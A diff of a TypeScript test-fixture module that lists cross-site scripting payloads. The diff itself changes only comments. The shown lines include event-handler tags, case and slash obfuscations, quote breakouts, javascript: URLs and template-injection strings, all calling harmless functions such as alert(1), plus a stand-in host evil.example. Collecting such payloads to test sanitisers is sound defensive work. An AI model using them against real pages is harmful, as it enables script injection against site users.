@@ -1,17 +1,17 @@
 // biome-ignore-all lint/style/noExcessiveLinesPerFile: a list: one entry per attack.
 /**
- * Texts that run a program, navigate or send a request where a page trusts them: each way in each
+ * Texts that run a script, navigate or send a request in a page that trusts them, each in every
  * wrapping that escapes its context. All call the same four functions and request the same host,
  * which does not exist.
  */
 
 const EVIL = 'https://evil.example'
 
-/** Programs, in the forms in which filters overlook them. */
+/** Scripts in forms that filters overlook. */
 const CALLS = ['alert(1)', 'confirm`1`', "top['pro'+'mpt'](1)", 'window.print()']
 const CALL = 'alert(1)'
 
-/** Elements that run a handler by themselves, or nearly. */
+/** Elements that run a handler without a click, or at the first one. */
 const HANDLERS = CALLS.flatMap((call) => [
   `<img src=x onerror=${call}>`,
   `<svg onload=${call}>`,
@@ -130,7 +130,7 @@ const BROKEN_OUT = BREAKOUTS.flatMap((end) => [
   `${end}<svg/onload=${CALL}//`,
 ])
 
-/** The same, obfuscated against filters. */
+/** The same attacks, obfuscated against filters. */
 const DISGUISED = [
   `<IMG SRC=x OnErRoR=${CALL}>`,
   `<img/src=x/onerror=${CALL}>`,
@@ -169,7 +169,7 @@ const HANDED_ON = QUOTES.flatMap((quote) => [
   `x${quote} style=animation:x onanimationstart=${CALL} x=${quote}`,
 ])
 
-/** Addresses that run a program or lead to another host. */
+/** Addresses that run a script or lead to another host. */
 const ADDRESSES = [
   `javascript:${CALL}`,
   `JaVaScRiPt:${CALL}`,
@@ -266,7 +266,7 @@ const NAMES = [
   'text',
 ]
 
-/** Text that is a program to a template, and text that is not what it looks like. */
+/** Text that a template engine would run, and text of invisible, invalid or stacked characters. */
 const TEXTS = [
   `{{constructor.constructor('${CALL}')()}}`,
   `\${${CALL}}`,
@@ -287,7 +287,7 @@ const TEXTS = [
   '\u0600'.repeat(400),
 ]
 
-/** All of them. */
+/** All attacks. */
 export const ATTACKS: readonly string[] = [
   ...HANDLERS,
   ...ELEMENTS,
